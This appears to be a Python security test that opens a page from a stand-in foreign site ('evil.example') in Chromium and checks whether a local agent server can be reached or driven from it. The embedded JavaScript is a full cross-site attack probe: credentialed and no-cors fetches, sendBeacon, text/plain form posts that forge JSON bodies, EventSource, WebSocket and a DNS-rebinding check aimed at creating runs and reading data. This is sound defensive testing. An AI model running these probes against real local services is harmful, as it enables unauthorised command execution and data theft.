"""A real Chromium on a page of another site, which tries a server of this machine in every way a page has."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from benchmarks.serve_place import KEYS, Place

FOREIGN = "evil.example"
SETTLE_SECONDS = 4.0
"""How long runs that got in are given to do what they do."""
SCRIPT = """
async ({url, run, key}) => {
  const body = JSON.stringify(run), read = [];
  const json = {"content-type": "application/json"}, keyed = {...json, "x-api-key": key};
  const plain = {"content-type": "text/plain"};
  const tries = {
    "fetch": () => fetch(`${url}/runs/wait`, {method: "POST", headers: json, body}),
    "fetch with credentials": () =>
      fetch(`${url}/runs/wait`, {method: "POST", headers: json, body, credentials: "include"}),
    "fetch with a key": () => fetch(`${url}/runs/wait`, {method: "POST", headers: keyed, body}),
    "fetch as text": () => fetch(`${url}/runs/wait`, {method: "POST", headers: plain, body}),
    "fetch no-cors": () => fetch(`${url}/runs/wait`, {method: "POST", mode: "no-cors", headers: plain, body}),
    "fetch no-cors with credentials": () =>
      fetch(`${url}/runs`, {method: "POST", mode: "no-cors", body, credentials: "include"}),
    "make a thread": () => fetch(`${url}/threads`, {method: "POST", mode: "no-cors", body: "{}"}),
    "read threads": () => fetch(`${url}/threads/search`, {method: "POST", headers: plain, body: "{}"}),
    "read the description": () => fetch(`${url}/openapi.json`),
    "read the assistants": () =>
      fetch(`${url}/assistants/search`, {method: "POST", headers: json, body: "{}"}),
    "read metrics": () => fetch(`${url}/metrics`),
    "without a referrer": () =>
      fetch(`${url}/runs/wait`, {method: "POST", headers: plain, body, referrerPolicy: "no-referrer"}),
    "keepalive": () => fetch(`${url}/runs`, {method: "POST", mode: "no-cors", body, keepalive: true}),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      const reply = await attempt();
      const text = reply.type === "opaque" ? "" : await reply.text();
      if (reply.status === 200 && text) read.push(name);
    } catch (error) { /* the browser told the page nothing, which is the point */ }
  }
  navigator.sendBeacon(`${url}/runs`, body);
  const told = (name, element, where) => new Promise((done) => {
    element.onload = () => { if (name !== "frame") read.push(name); done(); };
    element.onerror = () => done();
    document.body.append(element);
    setTimeout(done, 3000);
  });
  const made = (kind, more) => Object.assign(document.createElement(kind), more);
  await told("image", made("img", {src: `${url}/docs`}));
  await told("script", made("script", {src: `${url}/openapi.json`}));
  await told("style", made("link", {rel: "stylesheet", href: `${url}/docs`}));
  await told("frame", made("iframe", {src: `${url}/docs`}));
  const box = made("iframe", {name: "box"});
  document.body.append(box);
  for (const path of ["/runs/wait", "/runs", "/threads"]) {
    const form = made("form",
      {action: `${url}${path}`, method: "post", enctype: "text/plain", target: "box"});
    const half = body.slice(0, -1) + ',"x":"';
    form.append(made("input", {name: half, value: '"}'}));
    document.body.append(form);
    form.submit();
    await new Promise((done) => setTimeout(done, 700));
  }
  await new Promise((done) => {
    const source = new EventSource(`${url}/runs/stream`);
    source.onopen = () => { read.push("events"); done(); };
    source.onerror = () => { source.close(); done(); };
    setTimeout(done, 3000);
  });
  await new Promise((done) => {
    const thread = "00000000-0000-0000-0000-000000000000";
    const socket = new WebSocket(`${url.replace("http", "ws")}/threads/${thread}/stream/events`);
    socket.onopen = () => { read.push("socket"); done(); };
    socket.onerror = socket.onclose = () => done();
    setTimeout(done, 3000);
  });
  return {read, tries: Object.keys(tries).length + 10};
}
"""
"""Every way in which a page sends or reads; returns the ways that read something."""
BOUND = """
async ({run}) => {
  const tried = async (path, options) => {
    try { return (await fetch(path, options)).status === 200; } catch (error) { return false; }
  };
  const json = {"content-type": "application/json"};
  return [
    await tried("/openapi.json", {}),
    await tried("/threads/search", {method: "POST", headers: json, body: "{}"}),
    await tried("/runs/wait", {method: "POST", headers: json, body: JSON.stringify(run)}),
  ].filter(Boolean).length;
}
"""
"""What a page reads whose own name was bound to this machine after it was loaded."""


@contextmanager
def foreign_site() -> Iterator[int]:
    """Serve an empty page, and yield its port."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>another site</title><body></body>")

        def log_message(self, *words: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield int(server.server_address[1])
    finally:
        server.shutdown()
        server.server_close()


async def foreign_page(place: Place, program: str) -> tuple[int, list[str]]:
    """Open a page of another site in Chromium; return how many ways it tried, and those that got through."""
    from playwright.async_api import async_playwright

    before = await _threads(place)
    run = {"assistant_id": "ddax", "input": {"task": "hello"}, "on_completion": "keep",
           "context": place.filled({"actions": {"files": ["{place}/plugin.py"]}})}  # fmt: skip
    rules = f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1"
    with foreign_site() as port:
        async with async_playwright() as started:
            browser = await started.chromium.launch(
                executable_path=program, args=["--no-sandbox", "--disable-gpu", rules]
            )
            page = await browser.new_page()
            await page.goto(f"http://{FOREIGN}:{port}/")
            asked = {"url": place.url, "run": run, "key": KEYS["bob"] if place.keyed else ""}
            found: dict[str, Any] = await page.evaluate(SCRIPT, asked)
            bound = await browser.new_page()
            await bound.goto(f"http://{FOREIGN}:{place.url.rpartition(':')[2]}/docs")
            rebound = await bound.evaluate(BOUND, {"run": run})
            await asyncio.sleep(SETTLE_SECONDS)
            await browser.close()
    through = [f"read by {way}" for way in found["read"]]
    through += [f"{rebound} answers to a name bound to this machine"] if rebound and not place.keyed else []
    through += [f"{more} threads made"] if (more := await _threads(place) - before) > 0 else []
    through += ["executed a file"] if (place.folder / "executed").exists() else []
    return int(found["tries"]) + 3, through


async def _threads(place: Place) -> int:
    import httpx

    async with httpx.AsyncClient(base_url=place.url, headers=place.headers(), timeout=60.0) as client:
        return len(json.loads((await client.post("/threads/search", json={"limit": 1000})).text))
